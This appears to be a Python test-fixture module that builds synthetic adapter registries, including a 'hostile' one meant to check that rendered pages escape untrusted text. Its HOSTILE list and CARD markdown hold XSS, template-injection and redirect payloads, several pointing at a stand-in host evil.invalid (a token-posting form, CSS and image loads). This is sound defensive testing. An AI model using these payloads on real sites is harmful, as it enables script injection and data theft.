"""Registries for the tests of pages: large ones by cheap means, and one in which every text is an attack."""

from __future__ import annotations

import hashlib
import json
from collections.abc import Mapping
from dataclasses import replace
from pathlib import Path
from typing import Any

from releases import draft

from registry.catalog.state import STATE_BRANCH, STATE_FILE, Move, Note, State, Yank
from registry.formats.manifest import Manifest
from registry.hubs.layout import encode, encode_refs
from registry.hubs.protocol import MAIN, Refs

TIME = "2026-02-01T12:00:00Z"
HOSTILE = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    '"><svg onload=alert(1)>',
    "' onmouseover='alert(1)",
    "</style><script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "{{ 7 * 7 }} {% raw %} ${7*7} #{7*7}",
    "javascript:alert(1)",
    "<a href='javascript:alert(1)'>x</a>",
    "<meta http-equiv=refresh content='0;url=https://evil.invalid'>",
    "<style>body{background:url(https://evil.invalid/x)}</style>",
    "<base href=https://evil.invalid/>",
    "<!-- --> ]]> &lt;b&gt; <b>",
    "1;background:url(https://evil.invalid/x.png)",
]
#: Markdown that would run, load or hide something if its HTML were let through.
CARD = """---
tags: [x]
---
# Card <script>alert(1)</script> {{ 7 * 7 }}

<script>alert(2)</script>
<img src=x onerror=alert(3)>
<svg onload=alert(4)><style>@import 'https://evil.invalid/x.css'</style></svg>
<iframe srcdoc="<script>alert(5)</script>"></iframe>
<meta http-equiv="refresh" content="0;url=https://evil.invalid">
<form action="https://evil.invalid"><input name=token></form>
<div style="position:fixed;inset:0;background:red">over everything</div>

[click](javascript:alert(6)) [data](data:text/html,<script>alert(7)</script>) [vb](vbscript:x)
[case](JaVaScRiPt:alert(8)) [entity](java&#115;cript:alert(9)) [tab](java\tscript:alert(10))
![picture](https://evil.invalid/x.png) ![data](data:image/svg+xml;base64,PHN2Zz4=)
<javascript:alert(11)> <https://example.org/ok> [web](https://example.org/web "title' onmouseover='alert(12)")

| a | <b>b</b> |
|---|---|
| <script>alert(13)</script> | x |

```html
</code></pre><script>alert(14)</script>
```
right\u202eto left\u200b
"""


def write_repository(
    root: Path,
    name: str,
    releases: Mapping[str, Manifest | bytes],
    state: State | None = None,
    card: str | None = None,
    **tags: str,
) -> None:
    """Write a repository of a folder registry as the registry lays it out, without its weights."""
    folder = root / name
    commits, pairs = folder / "commits", {}
    for version, manifest in releases.items():
        data = manifest if isinstance(manifest, bytes) else manifest.to_bytes()
        commit = hashlib.sha256(data).hexdigest()
        (commits / commit).mkdir(parents=True, exist_ok=True)
        (commits / commit / "adapter_manifest.json").write_bytes(data)
        if card is not None:
            (commits / commit / "README.md").write_text(card, encoding="utf-8")
        pairs[f"v{version}"] = commit
    branches = {MAIN: next(reversed(pairs.values()))}
    if state is not None:
        data = state.to_bytes()
        commit = hashlib.sha256(data).hexdigest()
        (commits / commit).mkdir(parents=True)
        (commits / commit / STATE_FILE).write_bytes(data)
        branches[STATE_BRANCH] = commit
    (folder / "repository.json").write_bytes(encode({"format": 1, "id": name.replace("/", "-"), "name": name}))
    (folder / "refs.json").write_bytes(encode_refs(Refs(branches, {**pairs, **tags})))


def make_manifest(version: str, seed: int = 0, **fields: Any) -> Manifest:
    """The manifest of a release with metrics that get better from version to version."""
    made = draft(version, seed).manifest
    metrics = {"eval_loss": 2.0 / (1 + seed), "accuracy": 1 - 0.5 / (1 + seed)}
    return replace(made, **{"metrics": metrics, **fields})


def make_registry(root: Path, adapters: int, versions: int) -> Path:
    """A registry of many adapters with many versions, aliases, withdrawals, notes and tags."""
    for number in range(adapters):
        texts = [f"{1 + index // 10}.{index % 10}.0" for index in range(versions)]
        made = {text: make_manifest(text, index + number % 7) for index, text in enumerate(texts)}
        state = State(
            yanked={texts[1]: Yank("loss was NaN", TIME)} if versions > 2 else {},
            aliases={"champion": tuple(Move(text, TIME) for text in texts[-3:])},
            notes={texts[-1]: Note(f"note number {number}", TIME)},
            tags={texts[-1]: ("reviewed",)},
        )
        write_repository(root, f"org{number % 5}/adapter-{number:03}", made, state, "# Card\n\nOf an *adapter*.\n")
    return root


def make_hostile(root: Path) -> Path:
    """A registry in which every text that can come from others is an attack, as far as its formats let it in."""
    shown = [text for text in HOSTILE if text.isprintable()]
    lineage = {"code": {"commit": shown[0], "of": shown[1]}, "not_recorded": {"dataset": shown[2]}}
    fields: dict[str, Any] = {
        "metrics": dict.fromkeys(HOSTILE, 0.5),
        "config": {text: {text: [text]} for text in HOSTILE} | {"task_type": shown[0]},
        "training": {text: text for text in HOSTILE},
        "lineage": lineage,
    }
    before = make_manifest("1.0.0", **fields)
    after = make_manifest("1.1.0", **{**fields, "metrics": dict.fromkeys(HOSTILE, 0.25), "config": {}, "lineage": {}})
    state = State(
        yanked={"1.0.0": Yank(" ".join(shown)[:500], TIME)},
        aliases={"champion": (Move("1.0.0", TIME), Move("1.1.0", TIME))},
        notes={"1.1.0": Note(" ".join(shown)[:500], TIME)},
    )
    made: dict[str, Manifest | bytes] = {"1.0.0": before, "1.1.0": after, "2.0.0": json.dumps(HOSTILE).encode()}
    write_repository(root, "org/hostile", made, state, CARD)
    return root


def make_many_tags(root: Path, count: int) -> Path:
    """A registry with one adapter of many version tags, all of one commit but the newest."""
    older, newest = make_manifest("1.0.0"), make_manifest(f"9.0.{count}")
    write_repository(root, "org/many", {"1.0.0": older, f"9.0.{count}": newest})
    path = root / "org" / "many" / "refs.json"
    refs = json.loads(path.read_text())
    refs["tags"] |= {f"v9.0.{number}": refs["tags"]["v1.0.0"] for number in range(count)}
    path.write_text(json.dumps(refs))
    return root
